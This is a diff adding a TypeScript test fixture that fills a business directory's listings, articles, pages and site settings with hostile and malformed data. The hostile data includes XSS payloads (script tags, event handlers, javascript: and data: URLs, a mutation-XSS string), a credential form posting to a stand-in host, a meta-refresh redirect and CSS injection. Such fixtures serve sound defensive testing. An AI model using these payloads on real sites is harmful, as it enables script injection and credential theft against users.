@@ -1,0 +1,251 @@
+/** Where nothing of the odd directory may ever lead. */
+export const elsewhere = 'elsewhere.example';
+
+const run = (where: string) => `window.ranByItself=(window.ranByItself||'')+' ${where}'`;
+
+/** HTML that tries to run, to cover the page, to load and to lead elsewhere; and two honest sentences. */
+export function hostileHtml(where: string): string {
+  const code = run(where);
+  return `
+    <p>Honest words above.</p>
+    <script>${code}</script>
+    <img src="/none.png" onerror="${code}" onload="${code}">
+    <svg onload="${code}"><script>${code}</script><animate onbegin="${code}" attributeName="x" dur="1s" /></svg>
+    <p><a href="javascript:${code}">a link that runs</a>
+       <a href="java&#10;script:${code}">another</a>
+       <a href="data:text/html,<script>${code}</script>">a third</a></p>
+    <iframe src="https://${elsewhere}/frame"></iframe>
+    <iframe srcdoc="<script>parent.ranByItself='srcdoc'</script>"></iframe>
+    <iframe src="javascript:parent.ranByItself='frame'"></iframe>
+    <form action="https://${elsewhere}/collect"><input name="password"><button>Sign in here</button></form>
+    <style>body{display:none!important}@import url(https://${elsewhere}/style.css)</style>
+    <link rel="stylesheet" href="https://${elsewhere}/style.css">
+    <meta http-equiv="refresh" content="0;url=https://${elsewhere}/"><base href="https://${elsewhere}/">
+    <object data="https://${elsewhere}/object"></object><embed src="https://${elsewhere}/embed">
+    <video autoplay onloadstart="${code}" src="/none.mp4"></video>
+    <details open ontoggle="${code}"><summary>Details</summary></details>
+    <input autofocus onfocus="${code}">
+    <div style="position:fixed;inset:0;z-index:99;background:red url(https://${elsewhere}/x.png)" onclick="${code}" class="fixed inset-0">Over everything</div>
+    <h1>One more first heading</h1>
+    <p>${'W'.repeat(400)}</p>
+    <table><tr><td>${'W'.repeat(200)}</td><td>wide</td></tr></table>
+    <pre>${'W'.repeat(300)}</pre>
+    <img src="/none-wide.png" width="4000" height="20">
+    <p>Honest words below.</p>
+    <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${code}&gt;">`;
+}
+
+/** Text that would run if anybody took it for HTML. */
+export function hostileText(where: string): string {
+  return `"><script>${run(where)}</script><img src=x onerror="${run(where)}">`;
+}
+
+const reversed = '\u202emoc.elpmaxe\u202c';
+const longWord = (length: number) => 'Llanfairpwll'.repeat(30).slice(0, length);
+
+export const names = {
+  hostile: `Odd ${hostileText('name')}`,
+  long: longWord(300),
+  emoji: `🍕🥙${'🍜'.repeat(40)}👩🏽‍🍳`,
+  rightToLeft: `مطعم الشرق ${reversed} بيت الكباب`,
+  bare: 'Nothing Known Of It',
+  pictures: 'Pictures That Never Come',
+  route: 'Filed Under a Route',
+  longCategory: longWord(100).toLowerCase(),
+} as const;
+
+/** Addresses of the listings above. */
+export const ids = {
+  hostile: 'odd-hostile',
+  long: 'odd-long',
+  emoji: 'odd-emoji',
+  rightToLeft: 'odd-right-to-left',
+  bare: 'odd bare/../?#%',
+  pictures: 'odd-pictures',
+  route: 'odd-route',
+} as const;
+
+const somewhere = { area: 'Bury', category: 'Cafes', categories: ['Cafes'] };
+
+const listings = [
+  {
+    id: ids.hostile,
+    name: names.hostile,
+    description: hostileText('description'),
+    address: hostileText('address'),
+    category: 'Cafes',
+    categories: ['Cafes', hostileText('c')],
+    area: 'Bury',
+    phone: `javascript:${run('phone')}`,
+    website: `javascript:${run('website')}`,
+    email: `a@b.example"onmouseover="${run('email')}`,
+    lat: 53.5933,
+    lng: -2.2966,
+    imageUrl: `javascript:${run('image')}`,
+    htmlContent: hostileHtml('listing'),
+    rating: 4.2,
+    reviews: 3,
+    hygieneRating: '<b onclick=run()>Very</b>',
+    hygieneRatingDate: '2026-99-99',
+    hygieneAuthority: hostileText('authority'),
+    source: 'file',
+    sourceUpdatedAt: 'last Tuesday',
+    reviewsData: [
+      {
+        author_name: hostileText('author'),
+        rating: 5,
+        text: hostileText('review'),
+        time: 1e300,
+        relative_time_description: hostileText('when'),
+        profile_photo_url: `javascript:${run('photo')}`,
+        response: hostileText('response'),
+      },
+      { rating: null, text: 'Nobody signed this.', time: -5, author_name: '' },
+    ],
+  },
+  {
+    ...somewhere,
+    id: ids.long,
+    name: names.long,
+    description: `${longWord(300)} ${'long '.repeat(800)}`,
+    address: longWord(300),
+    category: longWord(100),
+    categories: [
+      longWord(100),
+      ...Array.from({ length: 12 }, (_, index) => `Kind ${String(index)}`),
+    ],
+    area: longWord(90),
+    phone: '0'.repeat(100),
+    website: `https://${longWord(60)}.example/${longWord(300)}`,
+    email: `${longWord(60)}@${longWord(60)}.example`,
+    lat: 89.9,
+    lng: 179.9,
+    rating: 0.1,
+    reviews: 999_999_999,
+    hygieneRating: longWord(100),
+    reviewsData: [
+      {
+        author_name: longWord(300),
+        rating: 1,
+        text: longWord(300),
+        time: null,
+        response: longWord(300),
+      },
+    ],
+  },
+  {
+    ...somewhere,
+    id: ids.emoji,
+    name: names.emoji,
+    description: '👍'.repeat(300),
+    address: '🏠 1 🛣️, 🐝',
+    categories: ['Cafes', '🍕🍕'],
+    reviewsData: [{ author_name: '🧑‍🍳', rating: 4, text: '😋'.repeat(200), time: 1_790_000_000 }],
+  },
+  {
+    ...somewhere,
+    id: ids.rightToLeft,
+    name: names.rightToLeft,
+    description: 'أطباق شامية في قلب المدينة. '.repeat(12),
+    address: 'شارع السوق 12، Bury',
+    categories: ['Cafes', 'مطاعم'],
+    htmlContent: '<p dir="rtl">مفتوح كل يوم</p>',
+  },
+  { id: ids.bare, name: names.bare },
+  {
+    ...somewhere,
+    id: ids.pictures,
+    name: names.pictures,
+    address: '1 Broken Frame',
+    imageUrl: '/no-such-picture.jpg',
+    htmlContent: '<p>See <img src="/no-such-dish.jpg" alt="the dish of the day"></p>',
+    reviewsData: [
+      {
+        author_name: 'Ann',
+        rating: 3,
+        text: 'Fine.',
+        time: 0,
+        profile_photo_url: '/no-such-face.png',
+      },
+    ],
+  },
+  {
+    ...somewhere,
+    id: ids.route,
+    name: names.route,
+    category: 'Auth',
+    categories: ['Auth', 'Articles'],
+  },
+];
+
+const topicTexts = (where: string) => ({
+  description: hostileText(where),
+  metaTitle: hostileText(where),
+  metaDescription: hostileText(where),
+  headerContent: hostileHtml(`${where} above`),
+  footerContent: hostileHtml(`${where} below`),
+});
+
+const article = {
+  id: 'odd-article',
+  slug: 'odd-article',
+  title: `Article ${hostileText('title')}`,
+  excerpt: hostileText('excerpt'),
+  content: hostileHtml('article'),
+  date: '31 February, or never',
+  author: hostileText('writer'),
+  image: '/no-such-picture.jpg',
+  published: true,
+  tags: [hostileText('tag'), longWord(60), '🍕', 'مطاعم'],
+};
+
+/** A directory in which nothing is as it should be, in the documents of the public format. */
+export const oddDirectory = {
+  directoryListings: listings,
+  directoryCategories: [
+    { id: 'cafes', name: 'Cafes', ...topicTexts('category') },
+    { id: 'auth', name: 'Auth' },
+    { id: 'articles', name: 'Articles' },
+    { id: 'pizza-emoji', name: '🍕🍕' },
+    { id: 'مطاعم', name: 'مطاعم' },
+    { id: 'long', name: longWord(100) },
+  ],
+  directoryAreaCategories: [{ id: 'area-bury', name: 'Bury', ...topicTexts('area') }],
+  siteArticles: [
+    article,
+    {
+      ...article,
+      id: 'odd-bare-article',
+      slug: '',
+      title: longWord(300),
+      tags: [],
+      author: '',
+      date: '',
+      image: '',
+    },
+  ],
+  sitePageContent: {
+    'odd-page': {
+      slug: 'odd-page',
+      title: `Page ${hostileText('page title')}`,
+      subtitle: hostileText('subtitle'),
+      content: hostileHtml('page'),
+      headerHtml: hostileHtml('page above'),
+      footerHtml: hostileHtml('page below'),
+      showInHeader: true,
+      showInFooter: true,
+      seo: { metaTitle: hostileText('meta'), metaDescription: hostileText('meta') },
+    },
+  },
+  siteSettings: {
+    headerLogo: `javascript:${run('logo')}`,
+    headerLogoWidth: '99999px',
+    headerLogoHeight: 'tall',
+    headerBackgroundColor: `url(https://${elsewhere}/header.png)`,
+    footerLogo: '/no-such-logo.png',
+    footerLogoWidth: '-1px',
+    footerBackgroundColor: 'red;position:fixed',
+    heroImage: `"), url(https://${elsewhere}/hero.png`,
+    primaryColor: `red;background:url(https://${elsewhere}/colour.png)`,
+  },
+};
